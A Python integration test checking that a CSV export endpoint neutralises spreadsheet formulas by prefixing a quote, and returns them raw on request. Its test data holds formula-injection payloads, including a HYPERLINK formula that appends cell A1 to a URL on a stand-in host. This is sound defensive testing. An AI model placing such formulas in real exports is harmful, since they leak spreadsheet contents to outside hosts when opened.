"""CSV exports over HTTP (issue 22): cells a spreadsheet would run as a formula start with `'`, numbers stay
numbers, and `?raw=1` gives every cell as stored. On SQLite and PostgreSQL, the API under uvicorn."""

from __future__ import annotations

import csv
import hashlib
import io

import httpx
import pytest

from services.store.db import create_engine
from tests.integration.api.conftest import Served
from tests.integration.store.corpus_store import StoredDoc, fill

pytestmark = [pytest.mark.integration, pytest.mark.timeout(300)]

COMMITTEE = "Formeludvalget"
FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klik her")', "@SUM(1+1)", "+4512345678", "-1+2"]


async def _store_formulas(served: Served) -> list[str]:
    """A meeting whose decisions (and first title) are formulas; returns the decision texts as stored."""
    source = next(d for d in served.docs if len(d.meeting.decisions) >= len(FORMULAS))
    data = source.path.read_bytes() + b"\n\n"
    decided = [i for i, item in enumerate(source.meeting.items) if item.decision is not None][: len(FORMULAS)]
    items = list(source.meeting.items)
    for index, formula in zip(decided, FORMULAS, strict=True):
        item = items[index]
        assert item.decision is not None
        items[index] = item.model_copy(update={"decision": item.decision.model_copy(update={"text": formula})})
    items[decided[0]] = items[decided[0]].model_copy(update={"title": "=1+1"})
    meeting = source.meeting.model_copy(update={"committee": COMMITTEE, "items": tuple(items)})
    received = source.received.model_copy(
        update={"document_id": hashlib.sha256(data).hexdigest(), "original_name": "formler.txt"}
    )
    engine = create_engine(served.settings.effective_database_url)
    try:
        await fill(engine, (StoredDoc(source.path, received, meeting),))
    finally:
        await engine.dispose()
    return FORMULAS


def _rows(served: Served, **params: str) -> list[dict[str, str]]:
    response = httpx.get(f"{served.base}api/v1/exports/csv", params={"committee": COMMITTEE, **params}, timeout=60)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


async def test_csv_export_neutralises_formulas_and_gives_them_raw_on_request(served: Served) -> None:
    stored = await _store_formulas(served)
    rows = _rows(served)
    texts = [r["decision_text"] for r in rows]
    assert sorted(texts) == sorted("'" + f for f in stored)
    assert "'=1+1" in {r["item_title"] for r in rows}
    # Number columns are numbers as they were (a leading quote would make a spreadsheet read text).
    assert all(r["item_number"].isdigit() for r in rows)

    raw = _rows(served, raw="1")
    assert sorted(r["decision_text"] for r in raw) == sorted(stored)
    assert "=1+1" in {r["item_title"] for r in raw}
    items = _rows(served, rows="items")
    assert "'=1+1" in {r["title"] for r in items}
